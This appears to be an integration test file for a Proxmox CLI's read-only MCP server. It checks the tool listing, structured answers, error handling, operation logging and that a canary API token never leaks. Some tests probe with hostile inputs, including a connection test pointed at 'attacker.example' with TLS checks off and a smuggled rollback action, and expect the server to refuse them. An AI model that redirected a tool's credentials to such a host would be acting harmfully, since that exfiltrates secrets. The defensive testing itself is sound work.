/**
 * The MCP server over stdio, read-only (the default), as a real child process
 * (`proxmox-mpc -C WS mcp`) in a workspace synced from the simulator, driven
 * by the SDK's own Client: the tools it lists (read tools only, annotated,
 * with output schemas), calls of the read tools (structured answers plus a
 * text summary), failures as isError results (bad input, an unknown guest, a
 * mutating tool on a read-only server), every call recorded as an operation
 * with actor mcp and its correlation id, and the API token (a canary) never
 * in any answer.
 */
import { spawn } from "node:child_process";
import { createInterface } from "node:readline";
import { BIN } from "../helpers/cli.js";
import { databaseUrl, loadWorkspace } from "../../src/core/workspace.js";
import { openStore } from "../../src/state/store.js";
import { mcpStdio, structured, textOf, type McpSession } from "../helpers/mcp.js";
import { guestName, initWorkspace, startSim, type RunningSimulator } from "../helpers/sim.js";

const CANARY = "canary-mcp-7c1e9d42";
let sim: RunningSimulator;
let ws: Awaited<ReturnType<typeof initWorkspace>>;
let mcp: McpSession;

beforeAll(async () => {
  sim = await startSim({ size: 40, randomSeed: 12, token: `root@pam!mpc=${CANARY}` });
  ws = await initWorkspace(sim);
  expect((await ws.run(["sync"])).code).toBe(0);
  mcp = await mcpStdio(ws.dir, ws.env);
}, 60_000);
afterAll(async () => {
  await mcp?.close();
  await sim.close();
  ws.cleanup();
});

it("lists only the read tools, each annotated read-only with an output schema", async () => {
  const { tools } = await mcp.client.listTools();
  const names = tools.map((t) => t.name);
  expect(names).toEqual(expect.arrayContaining(["get", "describe", "status", "health", "logs", "plan", "test", "test_connection", "report_issue"]));
  for (const name of ["sync", "create", "delete", "apply", "destroy", "start", "stop", "shutdown", "reboot", "mcp", "init", "sim"]) expect(names).not.toContain(name);
  for (const tool of tools) {
    expect(tool.annotations).toMatchObject({ readOnlyHint: true, destructiveHint: false, idempotentHint: true });
    expect(tool.outputSchema?.type).toBe("object");
    expect(tool.inputSchema.type).toBe("object");
    expect(tool.description).toMatch(/\S/);
  }
  expect(tools.find((t) => t.name === "get")?.inputSchema.required).toEqual(["resource"]);
});

it("serves the resources and prompts too", async () => {
  const { resources } = await mcp.client.listResources();
  expect(resources.length).toBeGreaterThan(3);
  const { prompts } = await mcp.client.listPrompts();
  expect(prompts.map((p) => p.name)).toEqual(expect.arrayContaining(["troubleshoot", "optimize", "plan"]));
  const first = await mcp.client.readResource({ uri: resources[0].uri });
  mcp.transcript.push(JSON.stringify(first));
  expect(first.contents.length).toBeGreaterThan(0);
});

it("get: the store's guests as structured data, and a short text summary", async () => {
  const result = await mcp.call("get", { resource: "vms" });
  expect(result.isError).toBe(false);
  const out = structured(result);
  expect(out).toMatchObject({ ok: true, command: "get", exitCode: 0 });
  expect(out.correlationId).toMatch(/^c-/);
  // Paged by default over MCP: the page, the total and the cursor of the next (none: the simulator has fewer than 100).
  const page = out.data as { items: { vmid: number; name: string; type: string }[]; total: number; nextCursor: string | null };
  const expected = sim.cluster.guests().filter((g) => g.type === "qemu");
  expect(page.items.map((v) => v.vmid).sort()).toEqual(expected.map((g) => g.vmid).sort());
  expect(page).toMatchObject({ total: expected.length, nextCursor: null });
  const small = structured(await mcp.call("get", { resource: "vms", limit: 2, fields: "vmid,name" })).data as typeof page;
  expect(small.items).toEqual(expected.sort((a, b) => a.vmid - b.vmid).slice(0, 2).map((g) => ({ vmid: g.vmid, name: guestName(g) })));
  const next = structured(await mcp.call("get", { resource: "vms", limit: 2, cursor: small.nextCursor })).data as typeof page;
  expect(next.items[0].vmid).toBe(expected[2].vmid);
  expect(textOf(result)).toMatch(/^get: ok\nVMID\s+NAME/);
});

it("describe, status, health, plan, test, test_connection and report_issue answer with structured content", async () => {
  const vm = sim.cluster.guests().find((g) => g.type === "qemu" && !g.template)!;
  const described = structured(await mcp.call("describe", { kind: "vm", name: guestName(vm) }));
  expect(described).toMatchObject({ ok: true, data: expect.objectContaining({ vmid: vm.vmid }) });
  expect(structured(await mcp.call("status", {}))).toMatchObject({ ok: true, command: "status" });
  const health = structured(await mcp.call("health", {}));
  expect(health.command).toBe("health");
  expect(health.data).toEqual(expect.objectContaining({ status: expect.any(String) }));
  const plan = structured(await mcp.call("plan", { engine: "native" }));
  expect(plan).toMatchObject({ ok: true, data: expect.objectContaining({ changes: expect.any(Array), summary: expect.any(Object) }) });
  const test = await mcp.call("test", {});
  expect(structured(test).command).toBe("test");
  expect(structured(await mcp.call("test_connection", {}))).toMatchObject({ ok: true, command: "test-connection" });
  const report = structured(await mcp.call("report_issue", { summary: "mcp test bundle" }));
  expect(report).toMatchObject({ ok: true, command: "report-issue" });
});

it("the read-only views of mutating commands: snapshot_list and backup_list answer on a read-only server; the action cannot be changed", async () => {
  const vm = sim.cluster.guests().find((g) => g.type === "qemu" && !g.template)!;
  const snapshots = await mcp.call("snapshot_list", { kind: "vm", target: [guestName(vm)] });
  expect(snapshots.isError).toBe(false);
  expect(structured(snapshots)).toMatchObject({ ok: true, command: "snapshot" });
  const backups = await mcp.call("backup_list", {});
  expect(structured(backups)).toMatchObject({ ok: true, command: "backup" });
  // The action is fixed: giving one is an unknown key, and the mutating tool itself is not offered.
  const sneaky = await mcp.call("snapshot_list", { action: "rollback", kind: "vm", target: [guestName(vm), "x"] });
  expect(sneaky.isError).toBe(true);
  const { tools } = await mcp.client.listTools();
  expect(tools.map((t) => t.name)).not.toContain("snapshot");
  expect(tools.find((t) => t.name === "snapshot_list")?.annotations).toMatchObject({ readOnlyHint: true, destructiveHint: false });
});

it("failures are isError results with the message and the hint, never protocol errors", async () => {
  const unknown = await mcp.call("describe", { kind: "vm", name: "no-such-guest" });
  expect(unknown.isError).toBe(true);
  expect(structured(unknown)).toMatchObject({ ok: false, exitCode: 2, error: expect.objectContaining({ message: expect.stringMatching(/no-such-guest/) }) });
  expect(textOf(unknown)).toMatch(/^error: .*no-such-guest/);
  const badChoice = await mcp.call("get", { resource: "vmz" });
  expect(badChoice.isError).toBe(true);
  expect(textOf(badChoice)).toMatch(/vmz/);
  const badType = await mcp.call("get", { resource: "vms", limit: "many" });
  expect(badType.isError).toBe(true);
  const unknownKey = await mcp.call("get", { resource: "vms", yes: true });
  expect(unknownKey.isError).toBe(true);
  const missing = await mcp.call("describe", {});
  expect(missing.isError).toBe(true);
  // Options no remote caller may give are not in the tool's input: following logs (it streams until
  // Ctrl-C), another endpoint or trust (the workspace's token sent to a host of the caller's choosing).
  const tools = (await mcp.client.listTools()).tools;
  const props = (name: string) => Object.keys(tools.find((t) => t.name === name)?.inputSchema.properties ?? {});
  expect(props("logs")).not.toContain("follow");
  expect(props("test_connection")).toEqual(expect.not.arrayContaining(["endpoint", "insecure", "fingerprint", "ca"]));
  const follow = await mcp.call("logs", { follow: true });
  expect(follow.isError).toBe(true);
  const elsewhere = await mcp.call("test_connection", { endpoint: "https://attacker.example:8006", insecure: true });
  expect(elsewhere.isError).toBe(true);
  // A mutating tool on a read-only server: not listed, and a call is refused with nothing done.
  const vm = sim.cluster.guests().find((g) => g.type === "qemu" && !g.template)!;
  const destroy = await mcp.call("destroy", { names: [guestName(vm)], confirm: true });
  expect(destroy.isError).toBe(true);
  expect(textOf(destroy)).toMatch(/destroy/);
  expect(sim.cluster.guests().some((g) => g.vmid === vm.vmid)).toBe(true);
  // The server is still there after all of that.
  expect(structured(await mcp.call("status", { offline: true })).ok).toBe(true);
});

it("every call is recorded as an operation with actor mcp and its correlation id; logs finds its lines", async () => {
  const result = structured(await mcp.call("get", { resource: "nodes" }));
  const id = result.correlationId as string;
  const store = await openStore({ url: databaseUrl(await loadWorkspace(ws.dir), {}) });
  try {
    const [op] = await store.operations.list({ correlationId: id });
    expect(op).toMatchObject({ command: "get", actor: "mcp", result: "ok", exitCode: 0 });
    const failed = await store.operations.list({ actor: "mcp", command: "describe" });
    expect(failed.some((o) => o.result === "failed" && o.exitCode === 2)).toBe(true);
  } finally {
    await store.close();
  }
  const logs = structured(await mcp.call("logs", { correlation: id }));
  expect(logs.ok).toBe(true);
  expect(JSON.stringify(logs.data)).toContain(id);
});

it("the API token never appears in any answer, and stdout carried nothing but the protocol", async () => {
  const joined = mcp.transcript.join("\n");
  expect(mcp.transcript.length).toBeGreaterThan(10);
  expect(joined).not.toContain(CANARY);
  expect(mcp.stderr()).not.toContain(CANARY);
});

it("stdout carries only JSON-RPC messages; closing stdin ends the server (exit 0), and so does SIGTERM", async () => {
  const lines: string[] = [];
  const start = () => spawn(process.execPath, [BIN, "-C", ws.dir, "mcp"], { env: ws.env, cwd: ws.dir, stdio: ["pipe", "pipe", "pipe"] });
  const child = start();
  createInterface({ input: child.stdout }).on("line", (line) => lines.push(line));
  const exited = new Promise<number | null>((done) => child.once("exit", (code) => done(code)));
  const send = (msg: unknown): boolean => child.stdin.write(`${JSON.stringify(msg)}\n`);
  send({ jsonrpc: "2.0", id: 1, method: "initialize", params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "raw", version: "1" } } });
  send({ jsonrpc: "2.0", method: "notifications/initialized" });
  send({ jsonrpc: "2.0", id: 2, method: "tools/call", params: { name: "get", arguments: { resource: "nodes" } } });
  send({ jsonrpc: "2.0", id: 3, method: "tools/call", params: { name: "describe", arguments: { kind: "vm", name: "missing" } } });
  while (lines.length < 3) await new Promise((r) => setTimeout(r, 20));
  child.stdin.end();
  expect(await exited).toBe(0);
  // Calls run concurrently: answers come in any order.
  const messages = lines.map((l) => JSON.parse(l) as { jsonrpc: string; id: number; result: { isError?: boolean } }).sort((a, b) => a.id - b.id);
  expect(messages.map((m) => [m.jsonrpc, m.id])).toEqual([["2.0", 1], ["2.0", 2], ["2.0", 3]]);
  expect(messages[2].result.isError).toBe(true);

  const second = start();
  const gone = new Promise<number | null>((done) => second.once("exit", (code) => done(code)));
  second.stdin.write(`${JSON.stringify({ jsonrpc: "2.0", id: 1, method: "initialize", params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "raw", version: "1" } } })}\n`);
  await new Promise<void>((r) => second.stdout.once("data", () => r()));
  second.kill("SIGTERM");
  expect(await gone).toBe(0);
});
